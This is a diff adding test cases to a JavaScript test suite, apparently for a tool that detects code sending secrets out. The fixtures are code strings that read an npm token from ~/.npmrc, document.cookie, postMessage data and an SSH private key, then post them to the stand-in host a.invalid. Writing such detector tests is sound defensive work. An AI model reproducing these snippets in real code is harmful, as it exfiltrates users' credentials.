@@ -29,6 +29,21 @@ describe('what is sent', () => {
       ['input document.querySelectorAll → https://a.invalid/'],
     ],
     [
+      'found in a file by a pattern',
+      `${fs}const [, found] = /_authToken=(.+)/.exec(fs.readFileSync(home + '/.npmrc', 'utf8'));\nfetch('https://a.invalid/', { body: found });`,
+      ['credential <home>/.npmrc → https://a.invalid/'],
+    ],
+    [
+      'by a request that is opened first',
+      `const request = new XMLHttpRequest();\nrequest.open('POST', 'https://a.invalid/c');\nrequest.send(document.cookie);`,
+      ['credential document.cookie → https://a.invalid/c'],
+    ],
+    [
+      'out of what another page says to this one',
+      `addEventListener('message', (event) => fetch('https://a.invalid/', { body: JSON.stringify(event.data) }));`,
+      ['input message event → https://a.invalid/'],
+    ],
+    [
       'through a callback',
       `${fs}fs.readFile(home + '/.ssh/id_rsa', (error, text) => { fetch('https://a.invalid/', { body: text }); });`,
       ['credential <home>/.ssh/id_rsa → https://a.invalid/'],
